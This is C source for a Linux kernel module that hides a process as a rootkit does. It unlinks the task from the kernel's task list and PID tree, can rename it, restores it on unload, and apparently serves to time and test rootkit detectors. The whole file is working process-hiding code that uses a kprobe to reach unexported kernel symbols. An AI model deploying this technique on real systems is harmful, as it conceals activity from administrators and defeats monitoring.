// SPDX-License-Identifier: GPL-2.0-only
/*
 * hide.c - take a process out of the kernel's lists, as a rootkit does
 *
 * pid=PID		the process
 * how=tasks		out of the list of tasks that starts at init_task
 * how=pids		out of the tree of PIDs, which /proc and kill() go by
 * how=both
 * name=COMM		give it another name, too
 *
 * The process runs on.  Unloading puts it back if it is still there.  The kernel's log
 * says at which TSC it was out of the first of them.
 */
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <asm/tsc.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide");

static char *how = "both";
module_param(how, charp, 0444);
MODULE_PARM_DESC(how, "tasks, pids or both");

static char *name;
module_param(name, charp, 0444);
MODULE_PARM_DESC(name, "name that the process gets");

/* Neither lock is exported. */
static rwlock_t *tasks_lock;
static spinlock_t *pids_lock;

static struct task_struct *task;
static struct pid *its_pid;
static char old_comm[TASK_COMM_LEN];
static bool out_of_tasks, out_of_pids;
static u64 hidden_at;

static unsigned long (*lookup_name)(const char *symbol);

static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&probe);

	if (err)
		return err;
	lookup_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static int find_locks(void)
{
	int err = find_lookup();

	if (err)
		return err;
	tasks_lock = (void *)lookup_name("tasklist_lock");
	pids_lock = (void *)lookup_name("pidmap_lock");
	return tasks_lock && pids_lock ? 0 : -ENOENT;
}

/* Later is no excuse for who has not found it by then. */
static void note_time(void)
{
	if (!hidden_at)
		hidden_at = rdtsc_ordered();
}

static void leave_tasks(void)
{
	write_lock_irq(tasks_lock);
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasks_lock);
	note_time();
	out_of_tasks = true;
}

static void enter_tasks(void)
{
	write_lock_irq(tasks_lock);
	if (pid_alive(task))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq(tasks_lock);
}

/* The number stays taken. */
static void leave_pids(void)
{
	spin_lock_irq(pids_lock);
	idr_replace(&init_pid_ns.idr, NULL, its_pid->numbers[0].nr);
	spin_unlock_irq(pids_lock);
	note_time();
	out_of_pids = true;
}

static void enter_pids(void)
{
	read_lock(tasks_lock);
	spin_lock_irq(pids_lock);
	if (pid_alive(task))
		idr_replace(&init_pid_ns.idr, its_pid, its_pid->numbers[0].nr);
	spin_unlock_irq(pids_lock);
	read_unlock(tasks_lock);
}

static void set_comm(const char *comm)
{
	task_lock(task);
	strscpy_pad(task->comm, comm, sizeof(task->comm));
	task_unlock(task);
}

static int hide(void)
{
	if (name) {
		get_task_comm(old_comm, task);
		set_comm(name);
	}
	if (!strcmp(how, "tasks") || !strcmp(how, "both"))
		leave_tasks();
	if (!strcmp(how, "pids") || !strcmp(how, "both"))
		leave_pids();
	if (out_of_tasks) {
		/* Whoever is at it in the list goes on before it is one of its own. */
		synchronize_rcu();
		INIT_LIST_HEAD(&task->tasks);
	}
	return out_of_tasks || out_of_pids ? 0 : -EINVAL;
}

static int __init hide_init(void)
{
	int err = find_locks();

	if (err)
		return err;
	its_pid = find_get_pid(pid);
	task = its_pid ? get_pid_task(its_pid, PIDTYPE_TGID) : NULL;
	err = task ? hide() : -ESRCH;
	if (!err) {
		pr_info("hide: %d %s at TSC %llu, %u kHz\n", pid, how,
			hidden_at, tsc_khz);
		return 0;
	}
	if (task)
		put_task_struct(task);
	put_pid(its_pid);
	return err;
}

static void __exit hide_exit(void)
{
	if (out_of_pids)
		enter_pids();
	if (out_of_tasks)
		enter_tasks();
	if (name)
		set_comm(old_comm);
	put_task_struct(task);
	put_pid(its_pid);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_DESCRIPTION("Hides a process, for tests of what finds it");
MODULE_LICENSE("GPL");
